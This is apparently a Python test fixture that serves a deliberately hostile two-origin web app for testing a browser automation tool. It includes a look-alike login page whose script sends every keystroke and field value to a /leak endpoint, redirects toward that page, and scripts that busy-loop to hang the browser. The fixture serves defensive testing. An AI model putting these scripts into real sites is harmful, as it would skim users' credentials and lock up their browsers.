"""An app that misbehaves the way hostile or broken apps do, on two origins of its own (two loopback ports).

The app's origin has a login form; its home can redirect to the other origin (HTTP 302 or a script's
location.href), where a look-alike login page reports every keystroke typed into it to its server (`leaks`), or
be the /keyspin page (home="notes"), the /keywizard one (home="wizard") or a sign-in form whose password field
loops on a key (home="keylogin").
/spin busy-loops in the page after load; /keyspin loads, then busy-loops once a key goes into its note field
(/keywizard too, in a wizard's required field); /slow answers after `slow_s` seconds; /big?n=N has N buttons.
"""

from __future__ import annotations

import asyncio
from typing import Any

from aiohttp import web

from tests.app_thread import AppThread

LOGIN_FORM = """<form method="post" action="/login" aria-label="Sign in">
  <label for="email">Email</label><input id="email" name="email" type="email" autocomplete="username">
  <label for="password">Password</label><input id="password" name="password" type="password">
  <button type="submit">Sign in</button>
</form>"""

REPORT_KEYS = """<script>
document.addEventListener('input', e => fetch('/leak', {method: 'POST', body: e.target.name + '=' + e.target.value}));
</script>"""

KEYSPIN_BODY = """<label for="note">New note</label><input id="note" name="note" type="text">
<p>Clicked <span id="clicks">0</span> times.</p>
<button type="button" onclick="clicks.textContent = Number(clicks.textContent) + 1">Count</button>
<script>document.getElementById('note').addEventListener('keydown', () => { for (;;) {} });</script>"""

KEYWIZARD_BODY = """<p>Step 1 of 2</p>
<form aria-label="New claim" method="get" action="/keywizard">
  <label for="claim">Claim</label><input id="claim" name="claim" type="text" required>
  <button type="submit">Next</button>
</form>
<script>document.getElementById('claim').addEventListener('keydown', () => { for (;;) {} });</script>"""


def page(title: str, body: str, status: int = 200, head: str = "") -> web.Response:
    return web.Response(status=status, content_type="text/html", text=f"""<!doctype html>
<html><head><title>{title}</title>{head}</head><body>
<header><nav aria-label="Main"><a href="/">Home</a> <a href="/reports">Reports</a></nav></header>
<main><h1>{title}</h1>{body}</main></body></html>""")


class HostileApp:
    """Both origins in one daemon thread; `knobs` change what the app's home does."""

    def __init__(self) -> None:
        self.knobs: dict[str, Any] = {"home": "login", "slow_s": 4.0, "login_delay_s": 0.0}
        self.app_url = ""  # the origin the tester gives the studio
        self.other_url = ""  # somewhere else
        self.leaks: list[str] = []  # what the other origin's page was sent
        self.posts: list[str] = []  # logins submitted on the app's own origin
        self._served: AppThread

    # -- the app's origin ----------------------------------------------------------------------------

    async def home(self, request: web.Request) -> web.Response:
        home = self.knobs["home"]
        if home == "http_redirect":
            raise web.HTTPFound(self.other_url + "/login")
        if home == "script_redirect":
            return page("Loading", "<p>One moment…</p>",
                        head=f"<script>setTimeout(() => location.href = '{self.other_url}/login', 300)</script>")
        if home == "notes":
            return await self.keyspin(request)
        if home == "wizard":
            return await self.keywizard(request)
        if home == "keylogin":  # the sign-in form, whose password field loops once a key goes into it
            return page("Sign in", LOGIN_FORM + "<script>document.getElementById('password')"
                                                ".addEventListener('keydown', () => { for (;;) {} });</script>")
        return page("Sign in", LOGIN_FORM)

    async def login(self, request: web.Request) -> web.Response:
        form = await request.post()
        self.posts.append(str(form.get("email", "")))
        await asyncio.sleep(float(self.knobs["login_delay_s"]))
        return page("Dashboard", "<p>Welcome back.</p><a href='/reports'>Reports</a>")

    async def reports(self, request: web.Request) -> web.Response:
        return page("Reports", "<table><tr><th>Report</th></tr><tr><td>Q3</td></tr></table>")

    async def spin(self, request: web.Request) -> web.Response:
        # The page loads, then its script never yields again: every later evaluation in it hangs.
        return page("Spinning", "<p>Loaded.</p>",
                    head="<script>addEventListener('load', () => setTimeout(() => { for (;;) {} }, 50));</script>")

    async def keyspin(self, request: web.Request) -> web.Response:
        # The page answers until a key goes into its note field: then its script never yields again.
        return page("Notes", KEYSPIN_BODY)

    async def keywizard(self, request: web.Request) -> web.Response:
        # A wizard's first step, walked on the tester's own page: its required field loops on a key, as /keyspin's.
        return page("New claim", KEYWIZARD_BODY)

    async def big(self, request: web.Request) -> web.Response:
        count = int(request.query.get("n", "20000"))
        rows = "".join(f'<li><button data-testid="item-{n}">Item {n}</button></li>' for n in range(count))
        return page("Big", f"<ul>{rows}</ul>")

    async def slow(self, request: web.Request) -> web.Response:
        await asyncio.sleep(float(self.knobs["slow_s"]))
        return page("Slow", "<p>Finally.</p>")

    # -- the other origin ----------------------------------------------------------------------------

    async def other_login(self, request: web.Request) -> web.Response:
        return page("Sign in", LOGIN_FORM, head=REPORT_KEYS)

    async def leak(self, request: web.Request) -> web.Response:
        self.leaks.append(await request.text())
        return web.Response(text="ok")

    async def other_post(self, request: web.Request) -> web.Response:
        form = await request.post()
        self.leaks.append(f"submitted {dict(form)}")
        return page("Thanks", "<p>Got it.</p>")

    # -- serving -------------------------------------------------------------------------------------

    def _apps(self) -> tuple[web.Application, web.Application]:
        app = web.Application()
        app.router.add_get("/", self.home)
        app.router.add_post("/login", self.login)
        app.router.add_get("/reports", self.reports)
        app.router.add_get("/spin", self.spin)
        app.router.add_get("/slow", self.slow)
        app.router.add_get("/keyspin", self.keyspin)
        app.router.add_get("/keywizard", self.keywizard)
        app.router.add_get("/big", self.big)
        other = web.Application()
        other.router.add_get("/login", self.other_login)
        other.router.add_post("/login", self.other_post)
        other.router.add_post("/leak", self.leak)
        return app, other

    def __enter__(self) -> HostileApp:
        self._served = AppThread(*self._apps(), name="hostile-app").__enter__()
        self.app_url, self.other_url = self._served.urls
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._served.__exit__(*exc_info)
